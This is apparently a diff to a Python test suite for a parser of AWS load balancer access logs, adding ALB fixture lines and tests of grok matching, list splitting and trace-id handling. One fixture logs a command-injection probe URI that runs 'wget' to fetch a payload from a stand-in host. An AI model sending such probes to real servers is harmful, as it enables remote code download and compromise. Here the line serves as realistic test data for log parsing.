@@ -27,6 +27,14 @@ ALB_SPACES = ('http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 67.43
               '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "www.example.com" "arn:aws:acm:cert/1" -1 '
               '2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;wget+ a.example/jaws" "-" '
               '"-" "-" "Acceptable" "SpaceInUri" TID_1234')
+# Two targets tried, the first gave no status: `"- 502"`; newer ALB fields (conn_trace_id onwards) follow.
+ALB_TARGET_LISTS = ALB.replace('"forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-"',
+                               '"forward" "-" "TargetConnectionError" "10.0.0.1:80 10.0.0.2:80" "- 502" '
+                               '"Ambiguous" "UndefinedContentLengthSemantics" TID_1 "www.example.com" "/" "-"')
+# matched_rule_priority `-` (AWS: "for any other error") and a request ALB could not parse.
+ALB_NO_PRIORITY = ('http 2018-07-02T22:23:00.186641Z app/my-lb/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - '
+                   '0 272 "- http://www.example.com:80- -" "-" - - - "-" "-" "-" - 2018-07-02T22:22:48.364000Z "-" "-" '
+                   '"-" "-" "-" "-" "-" TID_1 "-" "-" "-"')
 NLB = ('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd '
        '192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - '
        'ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30')
@@ -90,6 +98,56 @@ def test_a_quote_inside_the_user_agent_still_parses():
     assert doc["aws"]["elb"]["trace_id"] == "Root=1-58337262-36d228ad5d99923122bbe354"
 
 
+def test_current_alb_line_with_quotes_inside_the_user_agent_still_parses():
+    # 30 quotes of its own plus four in the agent: grok's lazy `\"%{DATA:_tmp.user_agent}\"` reads it.
+    line = ALB_TARGET_LISTS.replace('"curl/7.46.0"', '"Mozilla/5.0 "a" "b""')
+    doc = parse(line)
+    assert doc["user_agent"]["original"] == 'Mozilla/5.0 "a" "b"'
+    assert doc["aws"]["elb"]["classification_reason"] == "UndefinedContentLengthSemantics"
+
+
+def test_alb_quoted_list_starting_with_a_dash_is_kept_whole_and_split():
+    # grok `( \"(?:-|%{DATA:_tmp.target_status_code})\")?` backtracks from `-` into DATA; `split` on " ".
+    elb = parse(ALB_TARGET_LISTS)["aws"]["elb"]
+    assert elb["target_port"] == ["10.0.0.1:80", "10.0.0.2:80"] and elb["target_status_code"] == ["-", "502"]
+    assert elb["classification"] == "Ambiguous" and elb["classification_reason"] == "UndefinedContentLengthSemantics"
+
+
+@pytest.mark.parametrize(("lists", "ports", "statuses", "actions"), [
+    ('"forward," "-" "-" "10.0.0.1:80 " "200 "', ["10.0.0.1:80"], ["200"], ["forward"]),
+    ('",forward" "-" "-" " 10.0.0.1:80" "200  502"', ["", "10.0.0.1:80"], ["200", "", "502"], ["", "forward"]),
+])
+def test_alb_lists_are_split_as_java_splits_them(lists, ports, statuses, actions):
+    # `split` processors on _tmp.actions_executed (","), _tmp.target_port and _tmp.target_status_code (" "):
+    # String.split keeps leading and inner empty strings and drops trailing ones.
+    elb = parse(ALB.replace('"forward,redirect" "-" "-" "10.0.0.1:80" "200"', lists))["aws"]["elb"]
+    assert (elb["target_port"], elb["target_status_code"], elb["action_executed"]) == (ports, statuses, actions)
+
+
+def test_alb_line_the_alb_pattern_refuses_is_read_by_the_classic_http_pattern_after_its_type():
+    # grok searches every position: `(?:-1|%{NUMBER:aws.elb.matched_rule_priority})` refuses `-`, and
+    # ELBHTTPLOG matches from the timestamp. The document has the Classic fields and no ALB ones.
+    doc = parse(ALB_NO_PRIORITY)
+    assert doc["aws"]["elb"] == {"name": "app/my-lb/50dc6c495c0c9188", "protocol": "http"}
+    assert doc["http"] == {"request": {"body": {"bytes": 0}}, "response": {"status_code": 400, "body": {"bytes": 272}}}
+    assert doc["event"]["outcome"] == "failure" and doc["event"]["category"] == "web"
+    assert doc["url"] == {"scheme": "http", "original": "http://www.example.com:80-"}  # uri_parts: no server host
+    assert doc["@timestamp"] == "2018-07-02T22:23:00.186Z" and "trace" not in doc and "start" not in doc["event"]
+
+
+def test_trace_id_is_copied_as_its_template_renders_it():
+    # set trace.id from '{{aws.elb.trace_id}}': mustache JSON-escapes; aws.elb.trace_id keeps the raw text.
+    doc = parse(ALB.replace('"Root=1-58337262-36d228ad5d99923122bbe354"', '"Root=1-5\\x\tz"'))
+    assert doc["aws"]["elb"]["trace_id"] == "Root=1-5\\x\tz"
+    assert doc["trace"]["id"] == "Root=1-5\\\\x\\tz"
+
+
+def test_empty_user_agent_is_parsed_as_the_user_agent_processor_does():
+    # user_agent runs on `_tmp.user_agent` whenever it is not null: `""` gives name and device "Other".
+    doc = parse(ALB.replace('"curl/7.46.0"', '""'))
+    assert doc["user_agent"] == {"original": "", "name": "Other", "device": {"name": "Other"}}
+
+
 def test_nlb_tls_line_maps_connection_times_certificate_and_domain():
     doc = parse(NLB)
     elb = doc["aws"]["elb"]
@@ -119,7 +177,7 @@ def test_lines_no_layout_accepts_are_event_errors(line):
 
 
 @settings(max_examples=700, deadline=None)
-@given(mutated_lines([CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, NLB]))
+@given(mutated_lines([CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, ALB_TARGET_LISTS, ALB_NO_PRIORITY, NLB]))
 def test_mutated_lines_parse_or_fail_cleanly(line):
     assert_parses_cleanly(SPEC, Event(message=line))
 
@@ -130,7 +188,7 @@ def test_random_or_cut_text_parses_or_fails_cleanly(text):
     assert_parses_cleanly(SPEC, Event(message=text))
 
 
-@pytest.mark.parametrize("line", [CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, NLB])
+@pytest.mark.parametrize("line", [CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, ALB_TARGET_LISTS, NLB])
 def test_well_formed_lines_match_the_fast_patterns(line):
     # The lazy fallback gives the same document at several times the cost; a fast pattern that stopped
     # matching would only show as lost throughput.
